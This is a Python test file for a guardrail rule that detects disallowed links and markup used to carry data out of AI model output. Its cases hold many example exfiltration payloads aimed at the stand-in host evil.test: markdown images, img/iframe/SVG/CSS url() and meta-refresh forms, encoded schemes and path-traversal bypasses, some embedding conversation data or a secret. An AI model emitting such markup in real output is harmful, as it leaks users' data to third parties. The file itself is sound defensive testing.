"""Links: hosts outside the allowlist, however written, and markup that carries data out."""

import base64

import pytest

from guardrails.chain import Chain, ChainRule
from guardrails.rules.links import Links
from guardrails.text import Text
from tests.guard_doubles import assert_streams_alike

ALLOW = Links("l", ["example.com", "*.example.org"])
ANY = Links("l")
SECRET = base64.urlsafe_b64encode(b"the api key is 12345 and").decode()


def _found(rule: Links, text: str) -> list[tuple[str, str]]:
    return [(f.kind, text[f.begin : f.end]) for f in rule.scan(Text(text))]


@pytest.mark.parametrize(
    "text",
    [
        "see https://example.com/a?b=c, http://EXAMPLE.com:8080 and https://docs.example.org.",
        "![logo](https://example.com/logo.png?conversation=abcdefghijklmnopqrstuvwxyz)",
        "a // comment, 1//2, path/to//file and https://user@example.com/x",
    ],
)
def test_allowed(text: str) -> None:
    assert _found(ALLOW, text) == []


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("go to https://evil.test/x now", "https://evil.test/x"),
        ("https://example.com.evil.test", "https://example.com.evil.test"),
        ("https://example.com@evil.test/", "https://example.com@evil.test/"),
        ("https://notexample.org", "https://notexample.org"),
        ("https://example.org", "https://example.org"),
        ("https:\\\\evil.test\\a", "https:\\\\evil.test"),
        ("HTTPS://EVIL.test", "HTTPS://EVIL.test"),
        ("https://ex\u0430mple.com/", "https://ex\u0430mple.com/"),
        ("http://10.1.2.3/x", "http://10.1.2.3/x"),
        ("[a](//evil.test/x)", "//evil.test/x)"),
        ("www.evil.test/a", "www.evil.test/a"),
    ],
)
def test_foreign_hosts(text: str, address: str) -> None:
    assert _found(ALLOW, text) == [("link", address)]
    assert _found(ANY, text) == []


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.test/?q=what-the-model-knows)",
        "![a long alt text](https://evil.test/i.png?d={conversation})",
        f"![x](https://evil.test/{SECRET}/p.png)",
        "<img width=1 src='https://evil.test/p?data=0123456789abcdef'>",
        '<iframe src="//evil.test/?x=0123456789abcdef">',
        "background: url(https://evil.test/?x=0123456789abcdef)",
        "![x][1]\n\n[1]: https://evil.test/?x=0123456789abcdef",
        "![x](https://0123456789abcdef@evil.test/)",
        "![x](https://evil.test/#0123456789abcdef)",
        "[click](https://evil.test/?q=" + "a1b2" * 50 + ")",
        "![x][1]\n\n> [1]:\n   //evil.test/?x=0123456789abcdef",
        '<img srcset="a.png 1x, //evil.test/?x=0123456789abcdef 2x">',
        "<IMG alt='a > b' SRC = https://evil.test/?x=0123456789abcdef>",
        "<svg><image xlink:href='https://evil.test/?x=0123456789abcdef'/></svg>",
        '<meta http-equiv="refresh" content="0;url=https://evil.test/?x=0123456789abcdef">',
        "<style>@import 'https://evil.test/?x=0123456789abcdef';</style>",
        "<p style='background:url( \"https://evil.test/?x=0123456789abcdef\" )'>",
        "div { background: image-set('a.png' 1x, 'https://evil.test/?x=0123456789abcdef' 2x) }",
        "![" + "a long text " * 40 + "](https://evil.test/?x=0123456789abcdef)",
        "<img alt='" + "a long text " * 40 + "' src='https://evil.test/?x=0123456789abcdef'>",
        "![x](https:&#47;&#x2f;evil.test/?x=0123456789abcdef)",
        "<img src='&#104;ttps&colon;//evil.test/?x=0123456789abcdef'>",
    ],
)
def test_markup_that_carries_data_out(text: str) -> None:
    assert [kind for kind, _ in _found(ANY, text)] == ["exfiltration"]
    assert [kind for kind, _ in _found(ALLOW, text)] == ["exfiltration"]


@pytest.mark.parametrize(
    "text",
    [
        "![badge](https://img.test/badge/build.svg?style=flat)",
        "[docs](https://docs.test/search?q=how+to+sort&page=2)",
        "<img src='https://cdn.test/a/b/c/photo-1500.jpg?w=800'>",
        "f(a, //note\n  b) and postgres://db.test/x?sslmode=require&connect_timeout=10",
        "see https://github.test/a/b/blob/3f786850e387550fdab836ed7e6dc881de23001b/src/x.py#L10-L20",
    ],
)
def test_common_markup_is_none(text: str) -> None:
    assert _found(ANY, text) == []


PATHS = Links("l", ["example.com/docs/", "*.example.org/a/b", "whole.test", "whole.test/part"])


@pytest.mark.parametrize(
    "text",
    [
        "https://example.com/docs/",
        "see https://example.com/docs.",
        "(https://example.com/docs/a/b.html?c=d#e), and",
        "https://x.y.example.org/a/b/c",
        "https://whole.test/anything",
        "![logo](https://example.com/docs/logo.png?conversation=abcdefghijklmnopqrstuvwxyz)",
    ],
)
def test_below_an_allowed_path(text: str) -> None:
    assert _found(PATHS, text) == []


@pytest.mark.parametrize(
    "address",
    [
        "https://example.com/",
        "https://example.com/docsearch",
        "https://example.com/DOCS/",
        "https://example.com/docs/../admin",
        "https://example.com/docs/%2E%2e/admin",
        "https://example.com/docs/.%2e/admin",
        "https://example.com?/docs/",
        "https://example.org/a/b",
        "https://x.example.org/a/bc",
    ],
)
def test_beside_an_allowed_path(address: str) -> None:
    assert _found(PATHS, f"see {address} now") == [("link", address)]


def test_a_backslash_behind_an_allowed_path_leads_anywhere() -> None:
    assert _found(PATHS, "https://example.com/docs/a\\..\\..\\admin") == [("link", "https://example.com/docs/a")]


def test_an_address_whose_beginning_is_hidden_is_a_link_to_elsewhere() -> None:
    assert _found(ALLOW, "go to htt&#112;s://example.com/ now") == [("link", "htt&#112;s://example.com/")]


def test_links_in_streams() -> None:
    rules = Chain([ChainRule(Links("l", ["example.com/docs"], longest_address=60), "redact")], Text)
    text = "See https://example.com/docs/a, https://example.com/b and ![x](https://evil.test/?q=0123456789abcdef), [2]: //evil.test."
    assert assert_streams_alike(rules, text).text == "See https://example.com/docs/a, [LINK] and ![x]([EXFILTRATION] [2]: [LINK]"


def test_what_is_no_domain() -> None:
    with pytest.raises(ValueError, match=r"'https://a' is no domain; write example\.com"):
        Links("l", ["https://a"])
    for entry in ("example.com/a?b", "example.com/a#b", "/docs", "example.com:80"):
        with pytest.raises(ValueError, match="is no domain"):
            Links("l", [entry])


def test_what_a_stream_holds_back() -> None:
    text = "![](https://evil.test/?q=" + "a" * 5000 + ")"
    (found,) = Links("l", longest_address=200).scan(Text(text))
    assert found.end - found.begin <= 200
    assert Links("l", longest_address=200).longest == 500


def test_a_link_right_behind_another_one_is_judged_too() -> None:
    text = "[a](https://ok.example/)[b](https://elsewhere.example/x)![c](https://elsewhere.example/?q=everything-it-knows)"
    found = [(f.kind, text[f.begin : f.end]) for f in Links("l", ["ok.example"]).scan(Text(text))]
    assert [kind for kind, _ in found] == ["link", "exfiltration"]
    assert all(value.startswith("https://elsewhere.example/") for _, value in found)
